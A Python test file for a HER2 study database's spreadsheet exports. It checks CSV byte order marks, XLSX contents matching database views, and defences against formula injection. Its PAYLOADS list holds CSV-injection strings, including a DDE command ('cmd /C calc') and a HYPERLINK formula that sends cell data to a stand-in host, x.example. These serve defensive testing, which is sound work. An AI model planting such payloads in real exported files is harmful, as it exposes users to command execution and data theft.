"""Downloads a clinician opens in a spreadsheet: CSV with a byte order mark, the Excel workbook
read back equal to the views, and texts a spreadsheet would run as formulas refused at
validation and neutralised at export."""

from __future__ import annotations

import csv
import io
import json
import math
import sqlite3
from pathlib import Path

import openpyxl  # a test dependency (pyproject.toml, test extras)
import pytest
from click.testing import CliRunner

from her2db.cli import cli
from her2db.curate.load import load
from her2db.model.formulas import neutralised, reads_as_formula
from her2db.model.project import TITLE
from her2db.model.views import public_views
from her2db.read import named, workbook
from her2db.store.sqlite import connect_readonly

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"CLEOPATRA")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
SIGNS = "≥3 ± 0.5 – grade"


def _export(runner: CliRunner, db: Path, out: Path, *args: str) -> Path:
    result = runner.invoke(cli, ["export", str(out), "--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return out


def _views(db: Path) -> dict[str, tuple[list[str], list[tuple[object, ...]]]]:
    conn = connect_readonly(db)
    try:
        return {view: named.view_rows(conn, view) for view in named.public_views(conn)}
    finally:
        conn.close()


def test_the_rule() -> None:
    assert all(reads_as_formula(p) for p in PAYLOADS)
    # a number's printed text and a lone operator are harmless, and kept
    assert not any(reads_as_formula(t) for t in ("-0.5", "-12", "=", "-", "≥3", "HR = 0.68", ""))
    assert neutralised("=1+1") == "'=1+1" and neutralised("-0.5") == "-0.5"


def test_workbook_reads_back_as_the_views(real_db: Path, tmp_path: Path, runner: CliRunner) -> None:
    out = _export(runner, real_db, tmp_path / "x", "--format", "xlsx")
    assert sorted(p.name for p in out.iterdir()) == [".her2db-export", "her2db.xlsx"]
    book = openpyxl.load_workbook(out / "her2db.xlsx")
    views = _views(real_db)
    assert book.sheetnames == [workbook.ABOUT_SHEET, *views]
    formats_seen = set()
    for view, (columns, rows) in views.items():
        sheet = book[view]
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        order = workbook.sheet_order(columns)
        assert sorted(order) == list(range(len(columns)))
        read = list(sheet.iter_rows(values_only=True))
        assert list(read[0]) == [columns[i] for i in order]
        assert len(read) - 1 == len(rows), view
        by_name = [dict(zip(read[0], line, strict=True)) for line in read[1:]]
        for row, got in zip(rows, by_name, strict=True):
            for name, value in zip(columns, row, strict=True):
                cell = got[name]
                if isinstance(value, float) and math.isfinite(value):
                    assert isinstance(cell, (int, float)) and cell == pytest.approx(value), (view, name)
                elif value is None or value == "":
                    assert cell in (None, ""), (view, name)
                else:
                    assert cell == neutralised(value) if isinstance(value, str) else cell == value, (view, name)
        for line in sheet.iter_rows(min_row=2):
            for cell in line:
                assert cell.data_type != "f"  # never a formula
                formats_seen.add(cell.number_format)
    # a number shows the decimals the source printed: 0.70 stays 0.70
    assert {"0.00", "0.0"} <= formats_seen
    comparisons = book["v_comparisons"]
    header = [c.value for c in comparisons[1]]
    assert header[header.index("estimate") + 1] == "estimate_text"  # the printed text beside the number


def test_about_sheet_says_what_the_data_are(real_db: Path) -> None:
    conn = connect_readonly(real_db)
    try:
        book = openpyxl.load_workbook(io.BytesIO(workbook.workbook(conn)))
    finally:
        conn.close()
    about = [[c for c in row if c is not None] for row in book[workbook.ABOUT_SHEET].iter_rows(values_only=True)]
    facts = {row[0]: row[1] for row in about if len(row) == 2}
    assert {"Release", "Date", "Licence", "How to cite"} <= set(facts)
    assert facts["Licence"] == ("The curated data are licensed under CC BY 4.0 (https://creativecommons.org/licenses/"
                                "by/4.0/), Creative Commons Attribution 4.0 International; quotations remain those "
                                "of the cited publications.")
    described = {(row[0], row[1]): row[2] for row in about if len(row) == 3}
    for view, declared in public_views().items():
        for column, text in declared.columns.items():
            assert described[view, column] == " ".join(text.replace("`", "").split()), (view, column)


def test_a_release_names_the_workbook(corpus: Path, runner: CliRunner, tmp_path: Path) -> None:
    db = corpus / "her2db.sqlite"
    assert runner.invoke(cli, ["release", "2026.03", "--sources", str(corpus), "--db", str(db),
                               "--date", "2026-03-31"]).exit_code == 0
    book = openpyxl.load_workbook(_export(runner, db, tmp_path / "x", "--format", "xlsx") / "her2db.xlsx")
    facts = {row[0]: row[2] for row in book[workbook.ABOUT_SHEET].iter_rows(values_only=True) if row[0]}
    assert facts["Release"] == "2026.03" and facts["Date"] == "2026-03-31"
    assert facts["How to cite"].startswith(f"{TITLE}. Release 2026.03 (2026-03-31).")  # as every citation names it
    assert book.properties.created.year == 2026


def test_exports_are_reproducible_and_equal_the_site_downloads(real_db: Path, tmp_path: Path,
                                                                runner: CliRunner) -> None:
    from her2db.publish import generated

    first = (_export(runner, real_db, tmp_path / "a", "--format", "xlsx") / "her2db.xlsx").read_bytes()
    second = (_export(runner, real_db, tmp_path / "b", "--format", "xlsx") / "her2db.xlsx").read_bytes()
    assert first == second
    conn = connect_readonly(real_db)
    try:
        downloads = {f.src_uri: f.content for f in generated.downloads(conn, real_db, "dev")}
    finally:
        conn.close()
    assert downloads["downloads/her2db-dev.xlsx"] == first


@pytest.fixture
def signs_db(corpus: Path) -> Path:
    study = corpus / "studies" / "mini-trial.yaml"
    study.write_text(study.read_text(encoding="utf-8").replace(
        "title: A small randomized trial used by the tests", f"title: {SIGNS}"), encoding="utf-8")
    db = corpus / "her2db.sqlite"
    load(corpus, db)
    return db


def test_csv_starts_with_a_bom_and_keeps_the_signs(signs_db: Path, tmp_path: Path, runner: CliRunner) -> None:
    raw = (_export(runner, signs_db, tmp_path / "csv") / "v_studies.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfstudy_id,")
    assert SIGNS.encode("utf-8") in raw
    assert list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))[0]["title"] == SIGNS
    plain = (_export(runner, signs_db, tmp_path / "plain", "--no-bom") / "v_studies.csv").read_bytes()
    assert plain == raw[3:]
    book = openpyxl.load_workbook(_export(runner, signs_db, tmp_path / "x", "--format", "xlsx") / "her2db.xlsx")
    assert [row[2] for row in book["v_studies"].iter_rows(min_row=2, values_only=True)] == [SIGNS]


def test_the_site_csv_downloads_start_with_a_bom(real_db: Path) -> None:
    from her2db.publish import generated

    conn = connect_readonly(real_db)
    try:
        files = generated.downloads(conn, real_db, "dev")
    finally:
        conn.close()
    csvs = [f.content for f in files if f.name.endswith(".csv")]
    assert csvs and all(c is not None and c.startswith(b"\xef\xbb\xbf") for c in csvs)
    assert any(c is not None and "≥".encode() in c for c in csvs)
    assert [f.name for f in files if f.name.endswith(".xlsx")] == ["her2db-dev.xlsx"]


# --- the payloads: refused at validation -----------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_study_is_refused_with_its_line(corpus: Path, runner: CliRunner, payload: str) -> None:
    study = corpus / "studies" / "mini-trial.yaml"
    study.write_text(study.read_text(encoding="utf-8").replace("acronym: MINI", f"acronym: {json.dumps(payload)}"),
                     encoding="utf-8")
    result = runner.invoke(cli, ["validate", "--sources", str(corpus)])
    assert result.exit_code == 1
    if payload.startswith("\r"):  # a control character is refused as the file is read, before any formula check
        assert ("studies/mini-trial.yaml:3: error: mini-trial: the character U+000D (a control or invisible "
                "character) is not allowed in a value") in result.output
        return
    assert "studies/mini-trial.yaml:3: error: mini-trial › acronym: '" in result.output
    assert "a spreadsheet would run it as a formula" in result.output


@pytest.mark.parametrize(("rel", "old", "payload", "field"), [
    ("sources.yaml", '"Baselga et al. N Engl J Med 2012;366:109-19 (CLEOPATRA)."', PAYLOADS[1],
     "sources › sources[1] › citation"),
    ("vocabulary/drugs.yaml", "name: trastuzumab deruxtecan", PAYLOADS[2], "drugs › drugs[0] › name"),
])
def test_a_formula_in_a_source_or_vocabulary_is_refused(corpus: Path, runner: CliRunner, rel: str, old: str,
                                                        payload: str, field: str) -> None:
    path = corpus / rel
    text = path.read_text(encoding="utf-8")
    line = text[:text.index(old)].count("\n") + 1
    new = json.dumps(payload) if old.startswith('"') else f"name: {json.dumps(payload)}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    result = runner.invoke(cli, ["validate", "--sources", str(corpus)])
    assert result.exit_code == 1
    assert f"{rel}:{line}: error: {field}: '" in result.output and "would run it as a formula" in result.output


def test_a_negative_number_as_printed_is_not_refused(corpus: Path, runner: CliRunner) -> None:
    study = corpus / "studies" / "mini-trial.yaml"
    study.write_text(study.read_text(encoding="utf-8").replace("estimate: 0.56", 'estimate: "-0.56"'),
                     encoding="utf-8")
    result = runner.invoke(cli, ["validate", "--sources", str(corpus)])
    assert "formula" not in result.output


# --- the payloads: neutralised at export, in a database built by other means ------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_exported_formula_is_neutralised(mini_db: Path, tmp_path: Path, runner: CliRunner, payload: str) -> None:
    conn = sqlite3.connect(mini_db)
    conn.execute("UPDATE study SET acronym = ?", (payload,))  # not through validation
    conn.commit()
    conn.close()
    raw = (_export(runner, mini_db, tmp_path / "csv") / "v_studies.csv").read_bytes().decode("utf-8-sig")
    assert [row["acronym"] for row in csv.DictReader(io.StringIO(raw, newline=""))] == ["'" + payload]
    query = runner.invoke(cli, ["query", "--db", str(mini_db), "--format", "csv", "select acronym from v_studies"])
    assert list(csv.reader(io.StringIO(query.output, newline="")))[1] == ["'" + payload]
    book = openpyxl.load_workbook(_export(runner, mini_db, tmp_path / "x", "--format", "xlsx") / "her2db.xlsx")
    sheet = book["v_studies"]
    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("acronym") + 1)
    # the file escapes a carriage return as Excel does (_x000D_), which openpyxl does not decode
    assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == "'" + payload
    data = json.loads((_export(runner, mini_db, tmp_path / "json", "--format", "json") / "v_studies.json")
                      .read_text(encoding="utf-8"))
    assert data[0]["acronym"] == payload  # JSON is no spreadsheet: the text as it is
